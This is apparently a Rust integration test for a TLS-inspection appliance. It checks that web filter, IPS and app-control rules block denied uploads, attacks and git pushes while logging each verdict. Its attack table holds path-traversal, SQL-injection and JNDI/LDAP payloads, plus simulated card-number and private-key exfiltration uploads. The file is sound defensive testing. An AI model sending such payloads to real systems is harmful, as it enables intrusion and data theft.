//! The inspection engines on intercepted traffic in the lab (issue 5): real
//! curl as the client, nginx as the origin, the appliance in between with the
//! demo config plus `[[webfilter.rule]]`, `[ips]` and `[appcontrol]`.
//!
//! What a user would check: a denied path answers 403 with the block page
//! while the rest of the host keeps working on the same connection (HTTP/1.1
//! and HTTP/2); attack requests and an exfiltration upload never reach nginx
//! (its access log) in prevent mode but do in detect mode; a git push to
//! github is blocked while browsing the repository works; every verdict is in
//! the traffic log with its rule, policy_id and scope_id.

mod lab;

use std::net::Ipv4Addr;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use anyhow::bail;
use lab::{LabMode, Nginx, TestLab};
use serde_json::Value;

/// In scope of `pol-demo` / `sc-https` (configs/demo.toml).
const CLIENT: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 10);
/// Out of scope; only used to probe that the appliance forwards.
const PROBE: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 20);
const SERVER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 10);

/// One transfer of a curl run.
#[derive(Debug)]
struct Transfer {
    code: u16,
    /// New connections this transfer opened (0 = reused).
    connects: u32,
    local_port: u16,
    version: String,
    body: String,
}

/// What one curl run (one or more URLs) gave.
#[derive(Debug)]
struct Run {
    exit: Option<i32>,
    /// How long the whole curl run took.
    took: Duration,
    transfers: Vec<Transfer>,
    stderr: String,
}

/// One request of a curl run: method, path, extra curl arguments.
struct Req<'a> {
    path: &'a str,
    args: Vec<String>,
}

fn req<'a>(path: &'a str, args: &[&str]) -> Req<'a> {
    Req {
        path,
        args: args.iter().map(|s| s.to_string()).collect(),
    }
}

/// Runs curl from CLIENT against `https://<host><path>` at SERVER for each
/// request in turn (`--next`, so curl reuses the connection), trusting the
/// policy CA.
fn curl(t: &TestLab, host: &str, http2: bool, reqs: &[Req<'_>], tag: &str) -> anyhow::Result<Run> {
    let mut args: Vec<String> = vec!["-sS".into(), "-v".into()];
    let mut outs = Vec::new();
    for (i, r) in reqs.iter().enumerate() {
        if i > 0 {
            args.push("--next".into());
        }
        let out = t.path(&format!("{tag}-{i}.body"));
        let _ = std::fs::remove_file(&out);
        args.extend(
            [
                "--max-time",
                "10",
                "--interface",
                &CLIENT.to_string(),
                "--cacert",
                &t.pki.policy_ca_cert.display().to_string(),
                "--resolve",
                &format!("{host}:443:{SERVER}"),
                if http2 { "--http2" } else { "--http1.1" },
                "-o",
                &out.display().to_string(),
                "-w",
                "%{http_code} %{num_connects} %{local_port} %{http_version}\\n",
            ]
            .iter()
            .map(|s| s.to_string()),
        );
        args.extend(r.args.iter().cloned());
        args.push(format!("https://{host}{}", r.path));
        outs.push(out);
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let started = Instant::now();
    let o = t.lab.command(t.lab.client_ns(), "curl", &args).output()?;
    let took = started.elapsed();
    let stdout = String::from_utf8_lossy(&o.stdout).into_owned();
    let mut transfers = Vec::new();
    for (line, out) in stdout.lines().zip(&outs) {
        let p: Vec<&str> = line.split_whitespace().collect();
        if p.len() != 4 {
            bail!("unexpected curl -w line {line:?}");
        }
        transfers.push(Transfer {
            code: p[0].parse()?,
            connects: p[1].parse()?,
            local_port: p[2].parse()?,
            version: p[3].to_owned(),
            body: std::fs::read_to_string(out).unwrap_or_default(),
        });
    }
    Ok(Run {
        exit: o.status.code(),
        took,
        transfers,
        stderr: String::from_utf8_lossy(&o.stderr).into_owned(),
    })
}

/// Asserts that every transfer of `r` completed, promptly: a client must
/// not hang or fail on a blocked request (curl's exit code is the last
/// transfer's, so its error lines and the time catch an earlier one).
fn assert_clean(r: &Run, what: &str) {
    assert_eq!(r.exit, Some(0), "{what}: {r:?}");
    assert!(!r.stderr.contains("curl: ("), "{what}: {r:?}");
    assert!(
        r.took < Duration::from_secs(5),
        "{what}: took {:?}: {r:?}",
        r.took
    );
}

fn access_log(n: &Nginx) -> String {
    std::fs::read_to_string(&n.access_log).unwrap_or_default()
}

/// The demo config for this lab with `extra` appended (top-level tables).
fn config(t: &TestLab, extra: &str) -> anyhow::Result<(PathBuf, PathBuf)> {
    let (config, log) = t.write_config(CLIENT)?;
    let mut text = std::fs::read_to_string(&config)?;
    text.push('\n');
    text.push_str(extra);
    std::fs::write(&config, text)?;
    Ok((config, log))
}

fn default_rules() -> String {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("configs/rules/default.rules")
        .display()
        .to_string()
}

/// Alert records (`event_type` = alert) of the engine.
fn alerts<'a>(records: &'a [Value], engine: &str) -> Vec<&'a Value> {
    records
        .iter()
        .filter(|r| r["event_type"] == "alert" && r["tlsinspect"]["engine"] == engine)
        .collect()
}

/// The verdicts logged for flow `f` (alert events of its flow_id), as
/// {engine, sid, action}.
fn flow_alerts(records: &[Value], f: &Value) -> Vec<Value> {
    records
        .iter()
        .filter(|r| r["event_type"] == "alert" && r["flow_id"] == f["flow_id"])
        .map(|r| {
            serde_json::json!({
                "engine": r["tlsinspect"]["engine"],
                "sid": r["alert"]["signature_id"],
                "action": r["tlsinspect"]["verdict"],
            })
        })
        .collect()
}

/// The requests logged for flow `f` (http events of its flow_id), as
/// {http_method, url, status, app}.
fn flow_http(records: &[Value], f: &Value) -> Vec<Value> {
    records
        .iter()
        .filter(|r| r["event_type"] == "http" && r["flow_id"] == f["flow_id"])
        .map(|r| {
            let mut h = r["http"].clone();
            h["app"] = r["tlsinspect"]["app"].clone();
            h
        })
        .collect()
}

/// The flow record of the connection from CLIENT:`port`.
fn flow(records: &[Value], port: u16) -> Option<&Value> {
    records.iter().find(|r| {
        r["event_type"] == "flow" && r["src_ip"] == CLIENT.to_string() && r["src_port"] == port
    })
}

fn wait_reload(t: &TestLab, app: &lab::Appliance, n: usize) {
    t.lab.signal(app.pid, "HUP").expect("SIGHUP");
    let deadline = Instant::now() + Duration::from_secs(10);
    while app.stderr().matches("SIGHUP: reloaded").count() < n {
        assert!(
            Instant::now() < deadline,
            "no reload logged: {}",
            app.stderr()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

const WEBFILTER: &str = r#"
[[webfilter.rule]]
host = "www.example.com"
path = "/upload/*"
methods = ["POST", "PUT"]
action = "deny"
"#;

fn webfilter(mode: LabMode, tag: &str) -> anyhow::Result<()> {
    if lab::skip_without_root() {
        return Ok(());
    }
    let t = TestLab::build(tag, mode, &[CLIENT, PROBE], &[SERVER])?;
    let nginx = t.start_nginx()?;
    let (config, log) = config(&t, WEBFILTER)?;
    let app = t.start_appliance(&config, PROBE, SERVER)?;

    let mut ports = Vec::new();
    for http2 in [false, true] {
        // The denied POST, then a GET on the same connection.
        let r = curl(
            &t,
            lab::SERVER_NAME,
            http2,
            &[
                req(&format!("/upload/x-{http2}"), &["--data-binary", "secret"]),
                req("/index.html", &[]),
            ],
            &format!("wf-{http2}"),
        )?;
        assert_clean(&r, &format!("{mode:?} h2={http2}: deny then GET"));
        assert_eq!(
            r.transfers.len(),
            2,
            "{mode:?} h2={http2}: {r:?}\n{}",
            app.stderr()
        );
        let (post, get) = (&r.transfers[0], &r.transfers[1]);
        assert_eq!(post.code, 403, "{mode:?} h2={http2}: {r:?}");
        assert_eq!(post.version, if http2 { "2" } else { "1.1" }, "{r:?}");
        if !http2 {
            assert!(
                post.body.contains("Access blocked"),
                "block page: {:?}",
                post.body
            );
        }
        assert_eq!(
            get.code,
            200,
            "{mode:?} h2={http2}: {r:?}\n{}",
            app.stderr()
        );
        assert_eq!(get.body, "hello from nginx\n", "{r:?}");
        assert_eq!(
            get.connects, 0,
            "{mode:?} h2={http2}: the GET did not reuse the connection: {r:?}"
        );
        assert_eq!(get.local_port, post.local_port, "{r:?}");
        let denied_port = post.local_port;
        // A POST elsewhere on the host and a GET under /upload/ pass.
        let r = curl(
            &t,
            lab::SERVER_NAME,
            http2,
            &[
                req("/api/ok", &["--data-binary", "fine"]),
                req(&format!("/upload/get-{http2}"), &[]),
            ],
            &format!("wf-ok-{http2}"),
        )?;
        assert_clean(&r, &format!("{mode:?} h2={http2}: allowed"));
        let codes: Vec<u16> = r.transfers.iter().map(|x| x.code).collect();
        assert_eq!(codes, [200, 200], "{mode:?} h2={http2}: {r:?}");
        assert_eq!(r.transfers[0].body, "api ok\n");
        assert_eq!(r.transfers[1].body, "upload ok\n");
        // A large denied upload (beyond what the appliance lets a client
        // finish) is answered 403 too; the connection stays usable.
        let big = t.path(&format!("upload-{http2}.bin"));
        std::fs::write(&big, vec![b'u'; 512 * 1024])?;
        let r = curl(
            &t,
            lab::SERVER_NAME,
            http2,
            &[
                req(
                    "/upload/big",
                    &["--data-binary", &format!("@{}", big.display())],
                ),
                req("/index.html", &[]),
            ],
            &format!("wf-big-{http2}"),
        )?;
        assert_eq!(r.transfers.len(), 2, "{mode:?} h2={http2}: {r:?}");
        let (post, get) = (&r.transfers[0], &r.transfers[1]);
        if http2 {
            // The 403 goes out with RST_STREAM (NO_ERROR) mid-upload (RFC
            // 9113 §8.1); curl 7.88 reports that as error 92 rather than
            // the 403 (curl/curl#15316, #22984), so only the connection's
            // survival is checked here; the 403 itself is unit-tested.
            assert!(
                post.code == 403 || r.stderr.contains("curl: (92)"),
                "{mode:?}: {r:?}"
            );
            assert_eq!(
                get.connects, 0,
                "{mode:?}: the connection did not survive: {r:?}"
            );
        } else {
            assert_eq!(post.code, 403, "{mode:?}: {r:?}");
            assert!(post.body.contains("Access blocked"), "{r:?}");
        }
        assert_eq!(
            (get.code, get.body.as_str()),
            (200, "hello from nginx\n"),
            "{r:?}"
        );
        assert!(r.took < Duration::from_secs(5), "{mode:?}: {r:?}");
        ports.push(denied_port);
    }
    let access = access_log(&nginx);
    assert!(
        !access.contains("/upload/x-") && !access.contains("/upload/big"),
        "a denied request reached nginx:\n{access}"
    );
    assert!(access.contains("POST /api/ok"), "{access}");
    assert!(access.contains("GET /upload/get-true"), "{access}");

    t.stop_appliance(&app)?;
    let records = lab::read_log(&log)?;
    let wf = alerts(&records, "webfilter");
    assert!(
        wf.len() >= 2,
        "{mode:?}: webfilter alerts {wf:#?}\nall: {records:#?}"
    );
    for a in &wf {
        assert_eq!(a["tlsinspect"]["verdict"], "deny", "{a:#}");
        assert_eq!(a["tlsinspect"]["policy_id"], "pol-demo", "{a:#}");
        assert_eq!(a["tlsinspect"]["scope_id"], "sc-https", "{a:#}");
        assert_eq!(a["src_ip"], CLIENT.to_string(), "{a:#}");
    }
    for port in ports {
        assert!(
            wf.iter().any(|a| a["src_port"] == port),
            "{mode:?}: no webfilter alert for port {port}: {wf:#?}"
        );
        let f = flow(&records, port)
            .unwrap_or_else(|| panic!("no flow record for {port}: {records:#?}"));
        assert_eq!(f["tlsinspect"]["policy_id"], "pol-demo", "{f:#}");
        assert_eq!(f["tlsinspect"]["scope_id"], "sc-https", "{f:#}");
        let fa = flow_alerts(&records, f);
        assert!(
            fa.iter()
                .any(|a| a["engine"] == "webfilter" && a["action"] == "deny"),
            "{f:#}"
        );
        let http = flow_http(&records, f);
        assert!(
            http.iter().any(|h| h["http_method"] == "POST"
                && h["url"]
                    .as_str()
                    .is_some_and(|u| u.starts_with("/upload/x-"))
                && h["status"] == 403),
            "{f:#}"
        );
        assert!(
            http.iter().any(|h| h["http_method"] == "GET"
                && h["url"] == "/index.html"
                && h["status"] == 200),
            "{f:#}"
        );
    }
    Ok(())
}

#[test]
fn webfilter_af_packet() -> anyhow::Result<()> {
    webfilter(LabMode::AfPacket, "enwf")
}

#[test]
fn webfilter_af_packet_offloads_on() -> anyhow::Result<()> {
    lab::with_offloads(lab::Offloads::On, || webfilter(LabMode::AfPacket, "enwfo"))
}

#[test]
fn webfilter_tun() -> anyhow::Result<()> {
    webfilter(LabMode::Tun, "enwft")
}

#[test]
fn webfilter_tun_offloads_on() -> anyhow::Result<()> {
    lab::with_offloads(lab::Offloads::On, || webfilter(LabMode::Tun, "enwfto"))
}

/// An attack request: what curl sends and how to find it in nginx's log.
struct Attack {
    name: &'static str,
    path: &'static str,
    args: &'static [&'static str],
    /// Text that is in nginx's access log line iff the request reached it.
    marker: &'static str,
    /// The rules that may catch it (any of them).
    sids: &'static [u64],
}

const CARD_BODY: &str = "name=J+Doe&card=4111 1111 1111 1111&exp=12/29";

const ATTACKS: &[Attack] = &[
    Attack {
        name: "path traversal",
        path: "/static/../../etc/passwd",
        args: &["--path-as-is"],
        marker: "etc/passwd",
        sids: &[1000001, 1000002],
    },
    Attack {
        name: "SQL injection",
        path: "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--",
        args: &[],
        marker: "/search?q=",
        sids: &[1000010, 1000012],
    },
    Attack {
        name: "JNDI in User-Agent",
        path: "/jndi-probe",
        args: &["-A", "${jndi:ldap://203.0.113.99/a}"],
        marker: "jndi",
        sids: &[1000031],
    },
    Attack {
        name: "card number upload",
        path: "/api/exfil-card",
        args: &["--data-binary", CARD_BODY],
        marker: "exfil-card",
        sids: &[1000050],
    },
    Attack {
        name: "PEM private key upload",
        path: "/api/exfil-key",
        args: &[
            "--data-binary",
            "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo\n-----END RSA PRIVATE KEY-----\n",
        ],
        marker: "exfil-key",
        sids: &[1000052],
    },
];

fn ips(mode: LabMode, tag: &str) -> anyhow::Result<()> {
    if lab::skip_without_root() {
        return Ok(());
    }
    let t = TestLab::build(tag, mode, &[CLIENT, PROBE], &[SERVER])?;
    let nginx = t.start_nginx()?;
    let section = format!(
        "[ips]\nrules = [\"{}\"]\nmode = \"prevent\"\n",
        default_rules()
    );
    let (config, log) = config(&t, &section)?;
    let app = t.start_appliance(&config, PROBE, SERVER)?;

    // Prevent: each attack is stopped, a benign request right after works.
    for (i, a) in ATTACKS.iter().enumerate() {
        let http2 = i % 2 == 1;
        let r = curl(
            &t,
            lab::SERVER_NAME,
            http2,
            &[req(a.path, a.args)],
            &format!("atk{i}"),
        )?;
        let stopped = r.exit != Some(0) || r.transfers.first().is_some_and(|x| x.code == 403);
        assert!(
            stopped,
            "{mode:?}: {} (h2={http2}) was not stopped: {r:?}\n{}",
            a.name,
            app.stderr()
        );
        let ok = curl(
            &t,
            lab::SERVER_NAME,
            http2,
            &[req("/index.html", &[])],
            &format!("ok{i}"),
        )?;
        assert_clean(&ok, &format!("{mode:?}: benign request after {}", a.name));
        assert_eq!(
            ok.transfers.first().map(|x| x.code),
            Some(200),
            "{mode:?} after {}: {ok:?}",
            a.name
        );
        assert_eq!(ok.transfers[0].body, "hello from nginx\n");
    }
    let access = access_log(&nginx);
    for a in ATTACKS {
        assert!(
            !access.contains(a.marker),
            "{mode:?}: {} reached nginx:\n{access}",
            a.name
        );
    }

    // Detect: the same attack reaches nginx and is only alerted.
    let text = std::fs::read_to_string(&config)?.replace("mode = \"prevent\"", "mode = \"detect\"");
    std::fs::write(&config, text)?;
    wait_reload(&t, &app, 1);
    let r = curl(
        &t,
        lab::SERVER_NAME,
        false,
        &[req("/api/detect-card", &["--data-binary", CARD_BODY])],
        "det",
    )?;
    assert_clean(&r, &format!("{mode:?}: detect"));
    assert_eq!(
        r.transfers.first().map(|x| x.code),
        Some(200),
        "{mode:?} detect: {r:?}"
    );
    assert_eq!(r.transfers[0].body, "api ok\n");
    let detect_port = r.transfers[0].local_port;
    assert!(
        access_log(&nginx).contains("POST /api/detect-card"),
        "{}",
        access_log(&nginx)
    );

    t.stop_appliance(&app)?;
    let records = lab::read_log(&log)?;
    let ips = alerts(&records, "ips");
    for a in ATTACKS {
        let hit = ips.iter().find(|r| {
            r["alert"]["signature_id"]
                .as_u64()
                .is_some_and(|s| a.sids.contains(&s))
                && r["tlsinspect"]["verdict"] == "drop"
        });
        let hit = hit.unwrap_or_else(|| panic!("{mode:?}: no drop alert for {}: {ips:#?}", a.name));
        assert_eq!(hit["tlsinspect"]["policy_id"], "pol-demo", "{hit:#}");
        assert_eq!(hit["tlsinspect"]["scope_id"], "sc-https", "{hit:#}");
        assert!(
            hit["alert"]["signature"]
                .as_str()
                .is_some_and(|m| m.starts_with("TLSINSPECT")),
            "{hit:#}"
        );
        // The flow record carries the verdict and the request, unanswered.
        let f = records
            .iter()
            .find(|r| r["event_type"] == "flow" && r["flow_id"] == hit["flow_id"])
            .unwrap_or_else(|| panic!("{mode:?}: no flow record for {hit:#}"));
        // A drop resets the connection: the flow is logged as blocked by the IPS.
        assert_eq!(f["tlsinspect"]["action"], "blocked", "{f:#}");
        assert_eq!(f["tlsinspect"]["reason"], "ips", "{f:#}");
        assert!(
            flow_alerts(&records, f)
                .iter()
                .any(|x| x["sid"] == hit["alert"]["signature_id"] && x["action"] == "drop"),
            "{f:#}"
        );
        let path = a.path.split('?').next().unwrap_or_default();
        assert!(
            flow_http(&records, f)
                .iter()
                .any(|h| h["url"].as_str().is_some_and(|u| u.starts_with(path))
                    && h["status"].is_null()),
            "{mode:?}: {}: {f:#}",
            a.name
        );
    }
    let det = ips
        .iter()
        .find(|r| r["src_port"] == detect_port && r["alert"]["signature_id"] == 1000050)
        .unwrap_or_else(|| panic!("{mode:?}: no detect-mode alert: {ips:#?}"));
    assert_eq!(det["tlsinspect"]["verdict"], "alert", "{det:#}");
    let f = flow(&records, detect_port).unwrap_or_else(|| panic!("no flow record: {records:#?}"));
    assert!(
        flow_alerts(&records, f)
            .iter()
            .any(|a| a["sid"] == 1000050 && a["action"] == "alert"),
        "{f:#}"
    );
    Ok(())
}

#[test]
fn ips_af_packet() -> anyhow::Result<()> {
    ips(LabMode::AfPacket, "enips")
}

#[test]
fn ips_af_packet_offloads_on() -> anyhow::Result<()> {
    lab::with_offloads(lab::Offloads::On, || ips(LabMode::AfPacket, "enipso"))
}

#[test]
fn ips_tun() -> anyhow::Result<()> {
    ips(LabMode::Tun, "enipt")
}

#[test]
fn ips_tun_offloads_on() -> anyhow::Result<()> {
    lab::with_offloads(lab::Offloads::On, || ips(LabMode::Tun, "enipto"))
}

const APPCONTROL: &str = r#"
[appcontrol]

[[appcontrol.rule]]
app = "github"
action = "upload"
verdict = "deny"
"#;

fn appcontrol(mode: LabMode, tag: &str) -> anyhow::Result<()> {
    if lab::skip_without_root() {
        return Ok(());
    }
    let t = TestLab::build_with_names(tag, mode, &[CLIENT, PROBE], &[SERVER], &["github.com"])?;
    let nginx = t.start_nginx()?;
    let (config, log) = config(&t, APPCONTROL)?;
    let app = t.start_appliance(&config, PROBE, SERVER)?;

    let mut ports = Vec::new();
    for http2 in [false, true] {
        let push = format!("/octo/repo-{http2}.git/git-receive-pack");
        let r = curl(
            &t,
            "github.com",
            http2,
            &[
                req("/octo/repo", &[]),
                req(
                    &push,
                    &[
                        "-H",
                        "Content-Type: application/x-git-receive-pack-request",
                        "-H",
                        "Accept: application/x-git-receive-pack-result",
                        "--data-binary",
                        "0000",
                    ],
                ),
            ],
            &format!("git-{http2}"),
        )?;
        assert_clean(&r, &format!("{mode:?} h2={http2}: browse then push"));
        assert_eq!(r.transfers.len(), 2, "{mode:?}: {r:?}\n{}", app.stderr());
        let browse = &r.transfers[0];
        assert_eq!(browse.code, 200, "{mode:?} h2={http2}: {r:?}");
        assert_eq!(browse.body, "repo page\n");
        assert_eq!(
            r.transfers[1].code, 403,
            "{mode:?} h2={http2}: the push was not blocked: {r:?}"
        );
        assert_eq!(
            r.transfers[1].connects, 0,
            "{mode:?}: same connection: {r:?}"
        );
        if !http2 {
            assert!(r.transfers[1].body.contains("Access blocked"), "{r:?}");
        }
        ports.push(browse.local_port);
    }
    let access = access_log(&nginx);
    assert!(
        !access.contains("git-receive-pack"),
        "a push reached nginx:\n{access}"
    );
    assert!(access.contains("GET /octo/repo"), "{access}");

    t.stop_appliance(&app)?;
    let records = lab::read_log(&log)?;
    let ac = alerts(&records, "appcontrol");
    for port in ports {
        let a = ac
            .iter()
            .find(|a| a["src_port"] == port)
            .unwrap_or_else(|| panic!("{mode:?}: no appcontrol alert for {port}: {records:#?}"));
        assert_eq!(a["tlsinspect"]["verdict"], "deny", "{a:#}");
        assert_eq!(a["tlsinspect"]["policy_id"], "pol-demo", "{a:#}");
        assert_eq!(a["tlsinspect"]["scope_id"], "sc-https", "{a:#}");
        let f = flow(&records, port).unwrap_or_else(|| panic!("no flow record: {records:#?}"));
        assert_eq!(f["tlsinspect"]["app"]["name"], "github", "{f:#}");
        assert_eq!(f["tls"]["sni"], "github.com", "{f:#}");
        let http = flow_http(&records, f);
        let app_of = |pred: &dyn Fn(&Value) -> bool| {
            http.iter()
                .find(|h| pred(h))
                .map(|h| (h["app"]["name"].clone(), h["app"]["action"].clone()))
        };
        assert_eq!(
            app_of(&|h| h["http_method"] == "GET"),
            Some(("github".into(), "browse".into())),
            "{f:#}"
        );
        assert_eq!(
            app_of(&|h| h["http_method"] == "POST"),
            Some(("github".into(), "upload".into())),
            "{f:#}"
        );
    }
    Ok(())
}

#[test]
fn appcontrol_af_packet() -> anyhow::Result<()> {
    appcontrol(LabMode::AfPacket, "enapp")
}

#[test]
fn appcontrol_af_packet_offloads_on() -> anyhow::Result<()> {
    lab::with_offloads(lab::Offloads::On, || {
        appcontrol(LabMode::AfPacket, "enappo")
    })
}

#[test]
fn appcontrol_tun() -> anyhow::Result<()> {
    appcontrol(LabMode::Tun, "enapt")
}

#[test]
fn appcontrol_tun_offloads_on() -> anyhow::Result<()> {
    lab::with_offloads(lab::Offloads::On, || appcontrol(LabMode::Tun, "enapto"))
}
